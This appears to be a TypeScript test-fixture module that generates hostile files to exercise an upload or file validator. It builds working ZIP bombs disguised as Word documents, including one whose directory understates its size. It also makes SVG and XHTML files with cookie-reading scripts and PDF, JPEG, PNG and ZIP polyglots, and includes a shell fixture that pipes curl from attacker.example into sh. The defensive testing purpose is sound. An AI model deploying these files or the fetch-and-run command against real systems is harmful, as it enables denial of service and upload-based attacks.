import zlib from 'node:zlib';
import { unzipSync } from 'fflate';
import { docxFile, exeFile, pdfFile, pngFile } from './files';

/** One entry of a ZIP archive, its data already deflated. */
export interface ZipEntry {
  readonly name: string;
  readonly data: Buffer;
  readonly crc: number;
  /** The uncompressed size the archive declares, which a hostile archive may lie about. */
  readonly declaredSize: number;
}

export function deflatedEntry(name: string, content: string | Buffer): ZipEntry {
  const bytes = Buffer.from(content);
  return { name, data: zlib.deflateRawSync(bytes), crc: zlib.crc32(bytes), declaredSize: bytes.length };
}

/**
 * An entry that inflates to `megabytes` MB of zeros, built from one compressed megabyte repeated:
 * a full flush ends each copy on a byte boundary with nothing carried over, so the copies join
 * into one valid stream without a gigabyte ever being in memory.
 */
export function zerosEntry(name: string, megabytes: number, declaredSize = megabytes * 2 ** 20): ZipEntry {
  const megabyte = Buffer.alloc(2 ** 20);
  const copy = zlib.deflateRawSync(megabyte, { level: 9, finishFlush: zlib.constants.Z_FULL_FLUSH });
  // A final, empty block with fixed codes: the end of the stream.
  const finalBlock = Buffer.from([0x03, 0x00]);
  let crc = 0;
  for (let index = 0; index < megabytes; index += 1) crc = zlib.crc32(megabyte, crc);
  return { name, data: Buffer.concat([...Array<Buffer>(megabytes).fill(copy), finalBlock]), crc, declaredSize };
}

// Local file header, central directory header, end of central directory record.
const signatures = { local: 0x04034b50, central: 0x02014b50, end: 0x06054b50 } as const;
const deflated = 8;
// 12:00 on 1 May 2020 in MS-DOS form, so that the same archive is the same bytes every time.
const dosTime = 0x6000;
const dosDate = 0x50a1;

/**
 * The fields a local header and its central directory record share, in the same order: from the
 * version needed to extract to the length of the name (the flags between stay 0).
 */
function writeEntryFields(header: Buffer, at: number, entry: ZipEntry, nameLength: number): void {
  header.writeUInt16LE(20, at);
  header.writeUInt16LE(deflated, at + 4);
  header.writeUInt16LE(dosTime, at + 6);
  header.writeUInt16LE(dosDate, at + 8);
  header.writeUInt32LE(entry.crc >>> 0, at + 10);
  header.writeUInt32LE(entry.data.length, at + 14);
  header.writeUInt32LE(entry.declaredSize, at + 18);
  header.writeUInt16LE(nameLength, at + 22);
}

/** A ZIP archive, written header by header so that a test can make it say what it likes. */
export function zipArchive(entries: readonly ZipEntry[]): Buffer {
  const local: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    const header = Buffer.alloc(30);
    header.writeUInt32LE(signatures.local, 0);
    writeEntryFields(header, 4, entry, name.length);
    const record = Buffer.alloc(46);
    record.writeUInt32LE(signatures.central, 0);
    record.writeUInt16LE(20, 4); // made by
    writeEntryFields(record, 6, entry, name.length);
    record.writeUInt32LE(offset, 42);
    local.push(header, name, entry.data);
    central.push(record, name);
    offset += header.length + name.length + entry.data.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(signatures.end, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...local, directory, end]);
}

/** A real Word document's list of content types: what makes a ZIP archive read as Word. */
const contentTypes = (): ZipEntry =>
  deflatedEntry('[Content_Types].xml', Buffer.from(unzipSync(docxFile())['[Content_Types].xml']!));

/** A Word document whose text inflates to a gigabyte of zeros, in about 1 MB. */
export const zipBombDocx = (): Buffer => zipArchive([contentTypes(), zerosEntry('word/document.xml', 1024)]);

/** The same, but its directory claims the text is 1 KB, as a bomb does to get past a check of sizes. */
export const lyingZipBombDocx = (): Buffer => zipArchive([contentTypes(), zerosEntry('word/document.xml', 1024, 1024)]);

/** A Word document cut off before its directory, as an interrupted download leaves it. */
export const truncatedDocx = (): Buffer => docxFile().subarray(0, 400);

/** A plain archive, not a document, under a document's name. */
export const plainZip = (): Buffer => zipArchive([deflatedEntry('payload.exe', exeFile())]);

export const elfFile = (): Buffer =>
  Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(248)]);
export const shellScript = (): Buffer => Buffer.from('#!/bin/sh\ncurl https://attacker.example/x | sh\n');
export const svgWithScript = (): Buffer =>
  Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>',
  );
export const xhtmlFile = (): Buffer =>
  Buffer.from('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>');
export const gifFile = (): Buffer => Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

// Polyglots: one file that two programs each read as their own kind.
const script = '<html><body><script>alert(document.cookie)</script></body></html>';

/** A PDF whose first kilobyte is also a web page, for a browser that sniffs it. */
export const pdfHtmlPolyglot = (): Buffer => {
  const pdf = pdfFile();
  const header = pdf.indexOf('\n') + 1;
  return Buffer.concat([pdf.subarray(0, header), Buffer.from(`%${script}\n`), pdf.subarray(header)]);
};

/** A web page with a PDF after it, which PDF readers find within their first kilobyte. */
export const htmlPdfPolyglot = (): Buffer => Buffer.concat([Buffer.from(`${script}\n`), pdfFile()]);

/** A JPEG whose comment segment holds a web page. */
export const jpegHtmlPolyglot = (): Buffer => {
  const comment = Buffer.from(script);
  const segment = Buffer.alloc(4);
  segment.writeUInt16BE(0xfffe, 0);
  segment.writeUInt16BE(comment.length + 2, 2);
  // Start of image, the comment, then a minimal (if unviewable) rest of an image.
  const rest = Buffer.concat([
    Buffer.from([0xff, 0xdb, 0x00, 0x43, 0x00]),
    Buffer.alloc(64, 1),
    Buffer.from([0xff, 0xd9]),
  ]);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), segment, comment, rest]);
};

/** A PNG with a text chunk holding a script. */
export const pngScriptPolyglot = (): Buffer => {
  const png = pngFile();
  const data = Buffer.from(`Comment\0${script}`, 'latin1');
  const chunk = Buffer.alloc(8);
  chunk.writeUInt32BE(data.length, 0);
  chunk.write('tEXt', 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(Buffer.concat([chunk.subarray(4), data])) >>> 0, 0);
  // After the signature and the IHDR chunk (8 + 25 bytes).
  return Buffer.concat([png.subarray(0, 33), chunk, data, crc, png.subarray(33)]);
};

/** A file that is an image to an image viewer and an archive to an unzip program. */
export const pngZipPolyglot = (): Buffer => Buffer.concat([pngFile(), plainZip()]);
export const pdfZipPolyglot = (): Buffer => Buffer.concat([pdfFile(), plainZip()]);
/** The classic GIFAR trick with a Word document: an image with a document appended. */
export const pngDocxPolyglot = (): Buffer => Buffer.concat([pngFile(), docxFile()]);
